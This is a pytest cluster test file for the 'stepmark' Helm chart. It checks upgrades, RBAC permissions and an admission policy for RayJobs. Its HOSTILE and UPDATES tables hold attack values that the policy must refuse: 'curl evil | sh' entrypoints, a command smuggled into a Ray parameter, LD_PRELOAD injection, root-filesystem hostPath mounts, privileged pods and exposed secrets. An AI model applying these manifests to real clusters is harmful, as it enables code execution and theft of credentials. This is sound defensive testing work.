"""The chart's whole life on a real cluster: installed in an older version, upgraded, tested, guarded, uninstalled."""

import copy
import json
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from cluster.release import CHART, NAMESPACE, RUNS, Release, older_chart, values
from stepmark.controller.acceptance import Accepted, accept
from stepmark.controller.actions import manifests
from stepmark.controller.facts import Capabilities
from stepmark.controller.profiles import profiles_from_text
from stepmark.controller.settings import Settings

pytestmark = [pytest.mark.cluster, pytest.mark.core, pytest.mark.timeout(1200)]

CONTROLLER = f"system:serviceaccount:{NAMESPACE}:stepmark-controller"
SCENARIO = {
    "apiVersion": "stepmark.dev/v1alpha1",
    "kind": "Scenario",
    "metadata": {"name": "from-before"},
    "spec": {
        "profile": "sandbox",
        "workload": {"model": "scripted"},
        "candidates": [{"name": "plain", "engine": "sleeper", "strategy": "parallel"}],
        "scale": {"workers": [1], "batchPerWorker": 8},
        "parity": "skipped",
        "cancel": True,  # it is only there to survive
    },
}


@pytest.fixture(scope="module")
def release(cluster: Any, image: Callable[..., str], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Release]:
    """The older chart, with a scenario of then. The definition stays, as other tests are using it."""
    service, runner = image("service"), image("runner", "sleeper")
    cluster.load(service)
    cluster.load(runner)
    file = tmp_path_factory.mktemp("values") / "values.yaml"
    file.write_text(yaml.safe_dump(values(service, runner)))
    found = Release(cluster, file)
    found.kubectl("create", "namespace", NAMESPACE)
    found.kubectl("label", "namespace", NAMESPACE, "pod-security.kubernetes.io/enforce=restricted")
    try:
        found.deploy("install", older_chart(tmp_path_factory.mktemp("older")))
        found.of_runs("create", "--filename", "-", input=json.dumps(SCENARIO))
        yield found
    finally:
        cluster.helm("uninstall", "stepmark", "--namespace", NAMESPACE, "--ignore-not-found")
        cluster.kubectl("delete", "namespace", NAMESPACE, RUNS, "--ignore-not-found")


@dataclass(frozen=True)
class Before:
    tokens: dict[str, str]
    columns: set[str]
    volume: str
    scenario: str


@pytest.fixture(scope="module")
def before(release: Release) -> Before:
    """What was there when the older chart was, which is then upgraded to this one."""
    found = Before(
        release.tokens(),
        release.columns(),
        release.uid_of("pvc", "stepmark-hub"),
        release.uid_of("scenario", "from-before", RUNS),
    )
    release.deploy("upgrade", CHART)
    return found


def test_an_upgrade_keeps_tokens_results_and_scenarios(release: Release, before: Before) -> None:
    assert release.tokens() == before.tokens
    assert release.uid_of("pvc", "stepmark-hub") == before.volume
    assert release.uid_of("scenario", "from-before", RUNS) == before.scenario


def test_an_upgrade_brings_the_new_definition(release: Release, before: Before) -> None:
    assert release.columns() - before.columns == {"Verdict"}


def test_where_kuberay_is_the_notes_miss_nothing(release: Release, before: Before) -> None:
    said = release.deploy("upgrade", CHART)
    assert "MISSING" not in said
    assert f"helm test stepmark --namespace {NAMESPACE}" in said


def test_helm_test_runs_a_scenario_to_its_verdict_under_the_admission_policy(guarded: Release) -> None:
    release = guarded
    done = release.cluster.helm("test", "stepmark", "--namespace", NAMESPACE, "--timeout", "600s", timeout=660)
    said = release.kubectl("logs", "stepmark-test")
    assert done.returncode == 0, (done.stderr, said)
    assert "plain" in said
    scenarios = json.loads(release.of_runs("get", "scenarios", "-o", "json"))["items"]
    (run,) = [one for one in scenarios if one["metadata"]["name"].startswith("helm-test-")]
    assert run["status"]["phase"] == "Complete"


ALLOWED = [
    ("list", "scenarios.stepmark.dev", ""),
    ("patch", "scenarios.stepmark.dev", "status"),
    ("create", "rayjobs.ray.io", ""),
    ("delete", "rayjobs.ray.io", ""),
    ("create", "secrets", ""),
    ("get", "secrets", ""),
    ("delete", "secrets", ""),
    ("delete", "scenarios.stepmark.dev", ""),
    ("create", "networkpolicies.networking.k8s.io", ""),
    ("list", "pods", ""),
]
DENIED = [
    ("create", "scenarios.stepmark.dev", ""),
    ("update", "scenarios.stepmark.dev", ""),
    ("update", "rayjobs.ray.io", ""),
    ("create", "pods", ""),
    ("create", "pods", "exec"),
    ("delete", "pods", ""),
    ("list", "secrets", ""),
    ("update", "configmaps", ""),
    ("create", "serviceaccounts", "token"),
    ("create", "rolebindings.rbac.authorization.k8s.io", ""),
]


def may(release: Release, verb: str, resource: str, subresource: str, *options: str) -> str:
    more = (f"--subresource={subresource}",) if subresource else ()
    done = release.cluster.kubectl("auth", "can-i", verb, resource, *more, f"--as={CONTROLLER}", *options)
    return str(done.stdout).strip()


@pytest.mark.parametrize(("verb", "resource", "subresource"), ALLOWED)
def test_the_controller_may(release: Release, before: Before, verb: str, resource: str, subresource: str) -> None:
    assert may(release, verb, resource, subresource, "--namespace", RUNS) == "yes"


@pytest.mark.parametrize(("verb", "resource", "subresource"), DENIED)
def test_the_controller_may_not(release: Release, before: Before, verb: str, resource: str, subresource: str) -> None:
    assert may(release, verb, resource, subresource, "--namespace", RUNS) == "no"


@pytest.mark.parametrize("elsewhere", ["default", NAMESPACE])
def test_the_controller_may_do_nothing_elsewhere(release: Release, before: Before, elsewhere: str) -> None:
    """Where the release is, with its tokens, too."""
    for verb, resource, subresource in ALLOWED:
        assert may(release, verb, resource, subresource, "--namespace", elsewhere) == "no", (verb, resource)


@pytest.fixture(scope="module")
def guarded(release: Release, before: Before) -> Release:
    """With the admission policy, once the API server heeds it."""
    release.deploy("upgrade", CHART, "--set", "policy.admission.enabled=true")
    deadline = time.monotonic() + 60
    while submit(release, ray_job(release), user="").returncode == 0:
        assert time.monotonic() < deadline, "the API server has not heeded the policy for a minute"
        time.sleep(0.5)
    return release


def ray_job(release: Release) -> dict[str, Any]:
    """As the controller would make it of these values."""
    document = copy.deepcopy(SCENARIO) | {"metadata": {"name": "some", "namespace": RUNS, "uid": "0" * 8}}
    given = yaml.safe_load(release.values.read_text())["profiles"]
    accepted = accept(document, profiles_from_text(json.dumps(given)))
    assert isinstance(accepted, Accepted), accepted
    hub = f"http://stepmark-hub.{NAMESPACE}.svc:8080"
    settings = Settings(profiles_file=Path("/none"), hub_url=hub, hub_token_file=Path("/none"))
    can = Capabilities(auth_options=True)
    return manifests.ray_job(document, 1, accepted.scenario, accepted.profile, can, settings)


def submit(release: Release, manifest: dict[str, Any], user: str = CONTROLLER) -> Any:
    """Ask the API server whether it would take it."""
    options = (f"--as={user}",) if user else ()
    return release.cluster.kubectl(
        "create", "--dry-run=server", "--filename", "-", *options, input=json.dumps(manifest)
    )


def test_the_policy_admits_what_the_controller_makes(guarded: Release) -> None:
    done = submit(guarded, ray_job(guarded))
    assert done.returncode == 0, done.stderr


def test_the_policy_refuses_the_same_from_anybody_else(guarded: Release) -> None:
    assert "create a Scenario" in submit(guarded, ray_job(guarded), user="").stderr


def test_the_policy_is_for_the_watched_namespaces(guarded: Release) -> None:
    job = ray_job(guarded)
    job["metadata"]["namespace"] = "default"
    assert submit(guarded, job, user="").returncode == 0


Change = Callable[[dict[str, Any]], Any]


def _pod(job: dict[str, Any], role: str) -> dict[str, Any]:
    if role == "submitter":
        return job["spec"]["submitterPodTemplate"]["spec"]
    cluster = job["spec"]["rayClusterSpec"]
    group = cluster["headGroupSpec"] if role == "head" else cluster["workerGroupSpecs"][0]
    return group["template"]["spec"]


def of_container(role: str, **changes: Any) -> Change:
    return lambda job: _pod(job, role)["containers"][0].update(changes)


def of_pod(role: str, **changes: Any) -> Change:
    return lambda job: _pod(job, role).update(changes)


def of_cluster(**changes: Any) -> Change:
    return lambda job: job["spec"]["rayClusterSpec"].update(changes)


def of_head(**changes: Any) -> Change:
    return lambda job: job["spec"]["rayClusterSpec"]["headGroupSpec"].update(changes)


def of_workers(**changes: Any) -> Change:
    return lambda job: job["spec"]["rayClusterSpec"]["workerGroupSpecs"][0].update(changes)


def of_job(**changes: Any) -> Change:
    return lambda job: job["spec"].update(changes)


SAFE = {"allowPrivilegeEscalation": False, "runAsNonRoot": True, "capabilities": {"drop": ["ALL"]}}
TOKENS = {"name": "a", "secret": {"secretName": "stepmark-tokens"}}
SECRET_NODE_NAME = {
    "name": "STEPMARK_NODE_NAME",
    "valueFrom": {"secretKeyRef": {"name": "stepmark-tokens", "key": "admin"}},
}
HOSTILE: dict[str, tuple[Change, str]] = {
    "entrypoint": (of_job(entrypoint="curl evil | sh"), "stepmark's own entrypoint"),
    "runtime environment": (of_job(runtimeEnvYAML="pip: [evil]"), "without a runtime environment"),
    "someone's cluster": (of_job(clusterSelector={"ray.io/cluster": "x"}), "Ray cluster of the run's own"),
    "mode": (of_job(submissionMode="HTTPMode"), "Ray cluster of the run's own"),
    "no submitter": (lambda job: job["spec"].pop("submitterPodTemplate"), "submitter's pod written out"),
    "owner": (lambda job: job["metadata"].pop("ownerReferences"), "that a Scenario owns"),
    **{f"image of {role}": (of_container(role, image="evil"), "images") for role in ("head", "worker", "submitter")},
    "init container": (of_pod("head", initContainers=[{"name": "a", "image": "evil"}]), "no init containers"),
    "command": (of_container("worker", command=["sh"]), "no commands"),
    "lifecycle": (of_container("worker", lifecycle={"postStart": {"exec": {"command": ["sh"]}}}), "no commands"),
    "environment": (of_container("head", env=[{"name": "LD_PRELOAD", "value": "/tmp/a.so"}]), "no environment but"),
    "secret in a variable": (of_container("head", env=[SECRET_NODE_NAME]), "no environment but"),
    "secret as environment": (
        of_container("head", envFrom=[{"secretRef": {"name": "stepmark-tokens"}}]),
        "no commands",
    ),
    "host path": (of_pod("worker", volumes=[{"name": "tmp", "hostPath": {"path": "/"}}]), "emptyDir"),
    "another ConfigMap": (of_pod("worker", volumes=[{"name": "a", "configMap": {"name": "evil"}}]), "own ConfigMap"),
    "the hub's tokens": (of_pod("head", volumes=[TOKENS]), "own ConfigMap and Secret"),
    "plugin of NCCL": (of_container("worker", env=[{"name": "NCCL_NET_PLUGIN", "value": "a"}]), "no environment but"),
    "another hub": (of_container("head", env=[{"name": "STEPMARK_HUB_URL", "value": "http://evil"}]), "no environment"),
    "root": (of_container("head", securityContext={**SAFE, "runAsUser": 0}), "without privileges"),
    "autoscaler": (of_cluster(autoscalerOptions={"image": "evil"}), "of fixed size"),
    "autoscaling": (of_cluster(enableInTreeAutoscaling=True), "of fixed size"),
    "no token of Ray": (of_cluster(authOptions={"mode": "disabled"}), "with Ray's token"),
    "ingress": (of_head(enableIngress=True), "inside the cluster alone"),
    "load balancer": (of_head(serviceType="LoadBalancer"), "inside the cluster alone"),
    "head's service": (of_head(headService={"spec": {"type": "NodePort"}}), "inside the cluster alone"),
    "parameter of Ray": (of_head(rayStartParams={"num-cpus": "0; curl evil"}), "parameters of Ray"),
    "another parameter": (of_head(rayStartParams={"temp-dir": "0"}), "parameters of Ray"),
    "projected token": (of_pod("worker", volumes=[{"name": "tmp", "projected": {"sources": []}}]), "emptyDir"),
    "host network": (of_pod("worker", hostNetwork=True), "without the host's network"),
    "host processes": (of_pod("head", hostPID=True), "without the host's network"),
    "privileged": (of_container("worker", securityContext={"privileged": True}), "without privileges"),
    "no context": (of_container("submitter", securityContext={}), "without privileges"),
    "token": (of_pod("head", automountServiceAccountToken=True), "without a token of Kubernetes"),
    "account": (of_pod("head", serviceAccountName="stepmark-controller"), "without a token of Kubernetes"),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_the_policy_refuses_even_the_controller(guarded: Release, what: str) -> None:
    change, said = HOSTILE[what]
    job = ray_job(guarded)
    change(job)
    done = submit(guarded, job)
    assert done.returncode != 0
    assert "ValidatingAdmissionPolicy" in done.stderr
    assert said in done.stderr


KUBERAY = "system:serviceaccount:default:kuberay-operator"


@pytest.fixture(scope="module")
def made(guarded: Release) -> dict[str, Any]:
    """A RayJob of the controller's that waits in a queue, as the API server has it once KubeRay has looked at it."""
    job = ray_job(guarded)
    job["spec"]["suspend"] = True
    job["metadata"]["labels"]["stepmark.dev/attempt"] = "none"  # which the controller does not sweep away
    job["metadata"]["ownerReferences"][0] |= {"name": "from-before"}
    job["metadata"]["ownerReferences"][0]["uid"] = guarded.uid_of("scenario", "from-before", RUNS)
    done = guarded.cluster.kubectl("create", "--filename", "-", f"--as={CONTROLLER}", input=json.dumps(job))
    assert done.returncode == 0, done.stderr
    name = job["metadata"]["name"]
    guarded.of_runs("wait", f"rayjob/{name}", "--for=jsonpath={.status.jobDeploymentStatus}=Suspended", "--timeout=60s")
    found: dict[str, Any] = json.loads(guarded.of_runs("get", "rayjob", name, "-o", "json"))
    found["metadata"].pop("resourceVersion")  # KubeRay may write meanwhile
    return found


def replaced(release: Release, made: dict[str, Any], change: Change, user: str) -> Any:
    changed = copy.deepcopy(made)
    change(changed)
    options = ("replace", "--dry-run=server", "--filename", "-", *((f"--as={user}",) if user else ()))
    return release.cluster.kubectl(*options, input=json.dumps(changed))


PERMITTED: dict[str, Change] = {
    "nothing": lambda job: None,
    "a finalizer": lambda job: job["metadata"].update(finalizers=["ray.io/rayjob-finalizer"]),
    "that it may begin": of_job(suspend=False),
    "its nodes": of_pod("worker", nodeSelector={"gpu": "h100"}, tolerations=[{"key": "gpu", "operator": "Exists"}]),
}
UPDATES: dict[str, Change] = {
    "autoscaler": lambda job: job["spec"]["rayClusterSpec"].update(
        autoscalerOptions={"image": "evil"}, enableInTreeAutoscaling=True
    ),
    "parameter of Ray": of_head(rayStartParams={"num-cpus": "0; curl evil"}),
    "someone's code": of_pod("worker", volumes=[{"name": "code", "configMap": {"name": "evil"}}]),
    "the hub's tokens": of_pod("head", volumes=[TOKENS]),
    "plugin of NCCL": of_container("worker", env=[{"name": "NCCL_NET_PLUGIN", "value": "a"}]),
    "root": of_container("head", securityContext={**SAFE, "runAsUser": 0}),
    "no token of Ray": of_cluster(authOptions={"mode": "disabled"}),
    "load balancer": of_head(serviceType="LoadBalancer"),
    "ingress": of_head(enableIngress=True),
    "thousands of pods": of_workers(replicas=4096, maxReplicas=4096),
    **{f"image of {role}": of_container(role, image="evil") for role in ("head", "worker", "submitter")},
    "command": of_container("submitter", command=["sh"]),
    "entrypoint": of_job(entrypoint="curl evil | sh"),
    "runtime environment": of_job(runtimeEnvYAML="pip: [evil]"),
    "account": of_pod("worker", serviceAccountName="stepmark-controller"),
    "another group": lambda job: job["spec"]["rayClusterSpec"]["workerGroupSpecs"].append(
        {**job["spec"]["rayClusterSpec"]["workerGroupSpecs"][0], "groupName": "more"}
    ),
    "labels that a NetworkPolicy selects by": lambda job: job["spec"]["rayClusterSpec"]["headGroupSpec"]["template"][
        "metadata"
    ].update(labels={}),
}


@pytest.mark.parametrize("what", PERMITTED)
def test_kuberay_and_kueue_may_change_what_they_need_to(guarded: Release, made: dict[str, Any], what: str) -> None:
    done = replaced(guarded, made, PERMITTED[what], KUBERAY)
    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize("what", UPDATES)
def test_an_update_changes_nothing_else_whoever_makes_it(guarded: Release, made: dict[str, Any], what: str) -> None:
    done = replaced(guarded, made, UPDATES[what], KUBERAY)
    assert done.returncode != 0
    assert "ValidatingAdmissionPolicy" in done.stderr
    assert "as it was made" in done.stderr or "as they were made" in done.stderr


def test_nobody_else_may_update_a_rayjob_at_all(guarded: Release, made: dict[str, Any]) -> None:
    for change in PERMITTED.values():
        assert "only KubeRay, Kueue and the garbage collector" in replaced(guarded, made, change, "").stderr


def test_uninstalling_keeps_definition_scenarios_and_results_and_installing_takes_them_up(
    guarded: Release, before: Before
) -> None:
    guarded.helm("uninstall", "--wait", "--timeout", "240s")
    kinds = "deployment,service,secret,configmap,serviceaccount,role,rolebinding,networkpolicy"
    left = {name.partition("/")[2] for name in guarded.kubectl("get", kinds, "-o", "name").split()}
    of_tests = {name for name in left if name.startswith(("stepmark-test", "helm-test-"))}  # kept to be looked into
    assert left - of_tests == {"default", "kube-root-ca.crt"}
    assert guarded.uid_of("scenario", "from-before", RUNS) == before.scenario
    assert guarded.uid_of("pvc", "stepmark-hub") == before.volume
    guarded.deploy("install", CHART)
    assert guarded.uid_of("pvc", "stepmark-hub") == before.volume
    assert guarded.uid_of("scenario", "from-before", RUNS) == before.scenario
